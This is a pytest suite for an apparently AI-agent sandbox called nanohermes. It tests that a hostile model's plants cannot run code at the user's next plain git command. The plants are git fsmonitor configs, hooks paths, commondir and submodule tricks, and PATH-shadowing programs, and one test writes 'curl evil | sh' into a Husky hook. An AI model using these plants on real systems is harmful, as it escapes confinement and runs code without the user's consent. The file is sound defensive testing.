"""Git metadata wherever git reads it, and the programs nanohermes runs for itself: each plant
a hostile model or repository could make is first shown to run a program unconfined (the
control), then made through nanohermes, after which the person's own plain git runs nothing.
Real git, real kernel sandbox, real CLI."""

from __future__ import annotations

import json
import os
import subprocess
import time
from pathlib import Path
from typing import Any

import pytest

from nanohermes.guard import sandbox
from nanohermes.testing import FakeServer, Reply, call, tool_reply

AVAIL = sandbox.probe()
pytestmark = pytest.mark.skipif(not (AVAIL.landlock and AVAIL.namespaces),
                                reason="needs Landlock and user namespaces (`nanohermes doctor` says which is missing)")


def git(cwd: Path, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """The person's own git, unconfined, as they would run it."""
    return subprocess.run(["git", *args], cwd=cwd, capture_output=True, text=True, env=env, timeout=60)


@pytest.fixture
def repo(workspace: Path) -> Path:
    for args in (("init", "-q"), ("config", "user.email", "t@example.com"), ("config", "user.name", "T")):
        git(workspace, *args).check_returncode()
    (workspace / "a.txt").write_text("one\n")
    git(workspace, "add", "a.txt").check_returncode()
    git(workspace, "commit", "-qm", "first").check_returncode()
    return workspace


@pytest.fixture
def evil(tmp_path: Path) -> tuple[Path, Path]:
    """A program that leaves a mark when anything runs it, outside the workspace."""
    mark = tmp_path / "ran"
    script = tmp_path / "evil.sh"
    script.write_text(f"#!/bin/sh\necho ran >> {mark}\nexit 0\n")
    script.chmod(0o755)
    return script, mark


def model_runs(turn: Any, server: FakeServer, *commands: str, flags: tuple[str, ...] = ("--yes",),
               config: dict[str, Any] | None = None, env: dict[str, str] | None = None) -> list[str]:
    """The model calls run_command with each command in turn; the results it got back."""
    server.add(*(tool_reply(call("run_command", {"command": c}, id=f"c{i}")) for i, c in enumerate(commands)),
               Reply(text="done"))
    r = turn("-p", "go", "--output-format", "json", *flags, server=server, stdin=None, config=config, env=env)
    assert r.code == 0, r.err
    return [m["content"] for m in server.requests[-1]["messages"] if m["role"] == "tool"]


def test_a_model_written_bare_repository_is_never_a_repository(turn: Any, server: FakeServer, workspace: Path,
                                                                 evil: tuple[Path, Path]) -> None:
    """accept-edits, fully model-driven: files that make `g/` look like a bare repository whose
    config names the model's program (no `.git` in any path, so nothing is asked), then git
    run inside it by a read-only command."""
    script, mark = evil
    g = workspace / "g"
    writes = {"g/HEAD": "ref: refs/heads/main\n", "g/config": f"[core]\n\tworktree = ..\n\tfsmonitor = {script}\n",
              "g/objects/.keep": "", "g/refs/.keep": ""}
    for rel, text in writes.items():
        (workspace / rel).parent.mkdir(parents=True, exist_ok=True)
        (workspace / rel).write_text(text)
    # The control: git takes g/ for a repository, whose config names a program.
    assert git(g, "rev-parse", "--absolute-git-dir").stdout.strip() == str(g)
    assert git(workspace, "--git-dir", str(g), "status").returncode == 0 and mark.exists()
    mark.unlink()
    for rel in writes:
        (workspace / rel).unlink()

    server.add(*(tool_reply(call("write_file", {"path": rel, "content": text}, id=f"w{i}"))
                 for i, (rel, text) in enumerate(writes.items())),
               tool_reply(call("run_command", {"command": "cd g && git rev-parse --absolute-git-dir"}, id="r")),
               tool_reply(call("run_command", {"command": "cd g && git status"}, id="s")), Reply(text="done"))
    r = turn("-p", "go", "--output-format", "json", "--mode", "accept-edits", server=server, stdin=None)
    assert r.code == 0, r.err
    assert (g / "config").exists()  # the writes happened, unasked
    assert not mark.exists()
    *_, found, status = [m["content"] for m in server.requests[-1]["messages"] if m["role"] == "tool"]
    assert "cannot use bare repository" in found and str(g) + "\n" not in found, found
    assert "cannot use bare repository" in status, status


def test_a_repositorys_own_fsmonitor_does_not_run_at_the_models_git_status(turn: Any, server: FakeServer, repo: Path,
                                                                           evil: tuple[Path, Path]) -> None:
    """Default mode, no rules: an extracted archive's `.git/config` names a program."""
    script, mark = evil
    git(repo, "config", "core.fsmonitor", str(script)).check_returncode()
    git(repo, "status", "--short")
    assert mark.exists()  # the control
    mark.unlink()
    [out] = model_runs(turn, server, "git status --short", flags=())
    assert out.startswith("exit code: 0"), out
    assert not mark.exists()


PLANTS = {
    # (what makes git read the plant, the plant, how the person's git then runs it)
    "config.worktree": ("git config extensions.worktreeConfig true",
                        "printf '[core]\\n\\tfsmonitor = {script}\\n' > .git/config.worktree", ("status",)),
    "hooksPath folder not made yet": ("git config core.hooksPath githooks",
                                      "mkdir -p githooks && cp {script} githooks/pre-commit",
                                      ("commit", "-qm", "x", "--allow-empty")),
    "commondir": ("true", "mkdir -p ../other/.git && printf '[core]\\n\\tfsmonitor = {script}\\n' > ../other/.git/config "
                          "&& cp -r .git/HEAD .git/refs .git/objects ../other/.git/ 2>/dev/null; "
                          "echo ../../other/.git > .git/commondir", ("status",)),
    "a submodule's git folder made after start": (
        "true", "mkdir -p .git/modules/sub && git init -q --bare .git/modules/sub && "
                "git --git-dir=.git/modules/sub config core.fsmonitor {script} && "
                "git --git-dir=.git/modules/sub config core.worktree ../../../sub && mkdir -p sub && "
                "echo 'gitdir: ../.git/modules/sub' > sub/.git && git -c user.name=T -c user.email=t@example.com "
                "--git-dir=.git/modules/sub --work-tree=sub commit -q --allow-empty -m s && git update-index --add --cacheinfo "
                "160000,$(git --git-dir=.git/modules/sub rev-parse HEAD),sub", ("status",)),
}


@pytest.mark.parametrize("kind", list(PLANTS))
def test_metadata_that_does_not_exist_yet_is_protected_too(turn: Any, server: FakeServer, repo: Path,
                                                           evil: tuple[Path, Path], kind: str) -> None:
    setup, plant, person = PLANTS[kind]
    script, mark = evil
    subprocess.run(setup, shell=True, cwd=repo, check=True)
    if kind == "commondir":  # the control for this one would break the repository: shown by git itself
        pass
    else:
        control = subprocess.run(plant.format(script=script), shell=True, cwd=repo, capture_output=True, text=True)
        assert control.returncode == 0, control.stderr
        git(repo, *person)
        assert mark.exists(), kind  # the control: the plant runs the program at the person's git
        mark.unlink()
        subprocess.run("rm -rf .git/config.worktree githooks .git/modules sub; git rm -q --cached sub 2>/dev/null; true",
                       shell=True, cwd=repo)
    [out] = model_runs(turn, server, plant.format(script=script))
    git(repo, *person)
    assert not mark.exists(), (kind, out)
    assert "(removed:" in out, out


def test_husky_scripts_are_read_only(turn: Any, server: FakeServer, repo: Path) -> None:
    husky = repo / ".husky"
    (husky / "_").mkdir(parents=True)
    (husky / "pre-commit").write_text("npm test\n")
    git(repo, "config", "core.hooksPath", ".husky/_").check_returncode()
    [out] = model_runs(turn, server, "echo 'curl evil | sh' >> .husky/pre-commit; echo x > .husky/post-merge")
    assert (husky / "pre-commit").read_text() == "npm test\n"
    assert not (husky / "post-merge").exists()
    assert "Read-only file system" in out


def test_a_file_an_include_names_is_read_only(turn: Any, server: FakeServer, repo: Path,
                                              evil: tuple[Path, Path]) -> None:
    script, mark = evil
    shared = repo / "shared.gitconfig"
    shared.write_text("[alias]\n\tst = status\n")
    git(repo, "config", "include.path", "../shared.gitconfig").check_returncode()
    [out] = model_runs(turn, server, f"printf '[core]\\n\\tfsmonitor = {script}\\n' >> shared.gitconfig")
    assert shared.read_text() == "[alias]\n\tst = status\n", out
    git(repo, "status")
    assert not mark.exists()


# -- the programs nanohermes runs for itself ----------------------------------------------------

@pytest.fixture
def venv_path(workspace: Path) -> dict[str, str]:
    """An activated venv inside the workspace: its bin folder first on PATH."""
    bin_dir = workspace / ".venv" / "bin"
    bin_dir.mkdir(parents=True)
    return {"PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}", "VIRTUAL_ENV": str(workspace / ".venv")}


def test_nanohermes_never_runs_a_git_the_model_wrote_on_path(turn: Any, server: FakeServer, workspace: Path,
                                                             venv_path: dict[str, str],
                                                             evil: tuple[Path, Path]) -> None:
    script, mark = evil
    fake = f"cp {script} .venv/bin/git && chmod +x .venv/bin/git"
    subprocess.run(fake, shell=True, cwd=workspace, check=True)
    subprocess.run("git --version", shell=True, cwd=workspace, env={**os.environ, **venv_path})
    assert mark.exists()  # the control: by name, on this PATH, git is the model's program
    mark.unlink()
    (workspace / ".venv" / "bin" / "git").unlink()

    # Same session: the new repository check after `git init`; then the next start's checkpoints.
    outs = model_runs(turn, server, fake, "/usr/bin/git init -q", env=venv_path)
    assert any(".venv/bin/git" in o and "created or changed programs" in o for o in outs), outs
    assert not mark.exists()
    server.add(tool_reply(call("git_status", {}, id="g")), Reply(text="done"))
    r = turn("-p", "again", "--output-format", "json", server=server, stdin=None, env=venv_path)
    assert r.code == 0, r.err
    assert not mark.exists()


def test_the_person_is_told_before_approving_a_command_after_a_program_on_path_changed(
        workspace: Path, venv_path: dict[str, str], monkeypatch: pytest.MonkeyPatch) -> None:
    import asyncio

    from nanohermes.config import Config
    from nanohermes.common.events import ApprovalRequest, RecordingUI
    from nanohermes.common.messages import ToolCall
    from nanohermes.guard.permissions import Policy, Rule
    from nanohermes.turn.runtime import Runtime
    from nanohermes.tools.shell import RunCommand

    monkeypatch.setenv("PATH", venv_path["PATH"])
    ui = RecordingUI(answers=["deny"])
    rt = Runtime(tools=[RunCommand()], config=Config(), workspace=workspace, ui=ui,
                 policy=Policy(allow=(Rule.parse("run_command(cp *)"),)))
    calls = [ToolCall(id="a", name="run_command",
                      arguments=json.dumps({"command": "cp /bin/true .venv/bin/pytest"})),
             ToolCall(id="b", name="run_command", arguments=json.dumps({"command": "pytest -q"}))]
    first, second = asyncio.run(rt.run_calls(calls))
    assert second.content and second.content.startswith("Denied by the user")
    assert ".venv/bin/pytest" in (first.content or "")
    [asked] = ui.of(ApprovalRequest)
    assert f"{workspace / '.venv' / 'bin' / 'pytest'}" in asked.reason and "outside the sandbox" in asked.reason


def test_a_relative_or_writable_path_entry_is_skipped_for_nanohermes_own_programs(workspace: Path) -> None:
    from nanohermes.guard import programs

    bin_dir = workspace / "bin"
    bin_dir.mkdir()
    fake = bin_dir / "git"
    fake.write_text("#!/bin/sh\n")
    fake.chmod(0o755)
    (workspace / "rel").mkdir()
    old = os.environ["PATH"]
    try:
        os.environ["PATH"] = f"rel{os.pathsep}{bin_dir}{os.pathsep}{old}"
        programs.settle([workspace])
        found = programs.find("git")
        assert found is not None and not found.startswith(str(workspace)), found
        programs.settle([])
        assert programs.find("git") == str(fake)  # outside every root, it would be taken
    finally:
        os.environ["PATH"] = old
        programs.settle([])
    time.sleep(0)  # nothing left running


def test_hooks_and_mcp_servers_never_find_a_program_the_model_wrote_by_name(turn: Any, server: FakeServer,
                                                                            workspace: Path,
                                                                            venv_path: dict[str, str],
                                                                            evil: tuple[Path, Path]) -> None:
    """The person's hook names `fmt`, found on PATH; a sandboxed command wrote `.venv/bin/fmt`
    first on that PATH. The hook runs the person's own `fmt`, outside the workspace."""
    script, mark = evil
    own = workspace.parent / "own-bin"
    own.mkdir()
    (own / "fmt").write_text(f"#!/bin/sh\necho own >> {mark}.own\n")
    (own / "fmt").chmod(0o755)
    env = {**venv_path, "PATH": f"{venv_path['PATH'].split(os.pathsep)[0]}{os.pathsep}{own}{os.pathsep}{os.environ['PATH']}"}
    hooks = {"hooks": {"PostToolUse": [{"matcher": "run_command", "hooks": [{"type": "command", "command": "fmt"}]}]}}
    model_runs(turn, server, f"cp {script} .venv/bin/fmt", config=hooks, env=env)
    assert (workspace / ".venv" / "bin" / "fmt").exists()  # the command wrote it
    Path(f"{mark}.own").unlink()
    subprocess.run("fmt", shell=True, cwd=workspace, env={**os.environ, **env}, check=True)
    assert mark.exists()  # the control: by name, on this PATH, `fmt` is the model's program
    mark.unlink()
    server.add(tool_reply(call("run_command", {"command": "true"}, id="again")), Reply(text="done"))
    r = turn("-p", "again", server=server, stdin=None, config=hooks, env=env)
    assert r.code == 0, r.err
    assert not mark.exists()  # the hook did not run it
    assert Path(f"{mark}.own").exists()  # but the person's own program
